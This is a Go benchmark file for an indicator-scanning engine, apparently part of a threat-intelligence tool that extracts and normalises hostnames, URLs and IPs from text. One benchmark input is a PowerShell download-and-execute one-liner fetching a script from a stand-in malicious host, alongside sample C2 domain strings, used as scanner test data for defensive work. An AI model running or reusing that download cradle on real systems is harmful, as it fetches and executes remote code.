package engine

import (
	"maps"
	"slices"
	"strings"
	"testing"
)

// BenchmarkScan scans free text: a script block with a URL, the look-alikes of TestScanLookAlikes, a long text of
// names, a long text in which nothing looks like an indicator, and two long texts that make scan look back and forth.
func BenchmarkScan(b *testing.B) {
	script := `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://gate.bad-cdn.example/a.ps1')"; curl hxxp://bad[.]example/in.php`
	for _, bb := range []struct{ name, text string }{
		{"script", script},
		{"lookalikes", strings.Join(lookAlikes, "\n")},
		{"names", strings.Repeat("dig c2.attacker.xyz from 192.31.196.66:51234 by a@bad.example; ", 500)},
		{"colons", strings.Repeat("a.b:evil.example:80 x:yyyy.zzz ", 2000)},
		{"brackets", "http://x" + strings.Repeat(")", 60_000)},
		{"nothing", strings.Repeat("the quick brown fox jumps over the lazy dog ", 700)},
	} {
		b.Run(bb.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(bb.text)))
			for b.Loop() {
				scan(bb.text, func(string, Type, string, error) verdict { return kept })
			}
		})
	}
}

// BenchmarkNormal brings values to their normal form, as every pick does.
func BenchmarkNormal(b *testing.B) {
	for _, bb := range []struct {
		name string
		t    Type
		raw  string
	}{
		{"hostname", "hostname", "Gate.Bad-CDN.Example."},
		{"punycode", "hostname", "bücher.example"},
		{"url", "url", "HTTP://Bad.Example/In.PHP?a=B#c"},
		{"auto", Auto, "gate.bad-cdn.example"},
	} {
		b.Run(bb.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, _, err := bb.t.Resolve(bb.raw); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkScanWorst scans the texts that once took, or that might take, the longest.
func BenchmarkScanWorst(b *testing.B) {
	texts := worstTexts()
	for _, name := range slices.Sorted(maps.Keys(texts)) {
		b.Run(strings.ReplaceAll(name, " ", "-"), func(b *testing.B) {
			b.SetBytes(int64(len(texts[name])))
			for b.Loop() {
				scan(texts[name], byDefault)
			}
		})
	}
}
